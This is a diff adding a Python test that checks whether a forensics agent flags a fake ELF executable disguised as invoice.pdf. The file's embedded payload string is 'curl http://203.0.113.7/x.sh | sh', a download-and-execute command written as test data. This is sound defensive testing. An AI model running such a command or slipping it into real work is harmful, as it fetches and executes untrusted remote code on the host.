@@ -105,3 +105,27 @@ async def test_documentation_specialist_checks_docstrings_and_the_readme(server:
     text = " ".join(f["title"] + " " + f["description"] for f in result["findings"] if f["grounded"])
     assert "rebate" in text  # documented parameter that does not exist
     assert "install" in text.lower()  # the README has no install section
+
+
+async def test_forensics_investigator_flags_a_disguised_executable_with_a_dropper(server: LiveServer) -> None:
+    import base64
+
+    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"curl http://203.0.113.7/x.sh | sh\x00" * 3
+    body = {
+        "title": "forensics check",
+        "task_type": "forensics",
+        "inputs": {
+            "files": [
+                {"name": "invoice.pdf", "content": base64.b64encode(elf).decode(), "encoding": "base64"}
+            ]
+        },
+    }
+    async with server.client() as client:
+        created = (await client.post("/api/v1/tasks", json=body)).json()
+        task = await wait_status(client, created["id"])
+        assert task["status"] == "succeeded", task["error"]
+        result = (await client.get(f"/api/v1/tasks/{task['id']}/result")).json()
+    grounded = [f for f in result["findings"] if f["grounded"] and f["agent_id"] == "forensics_investigator"]
+    severities = {f["severity"] for f in grounded}
+    assert "high" in severities  # download-and-execute
+    assert any("invoice.pdf" in (f["title"] + f["description"]) for f in grounded)
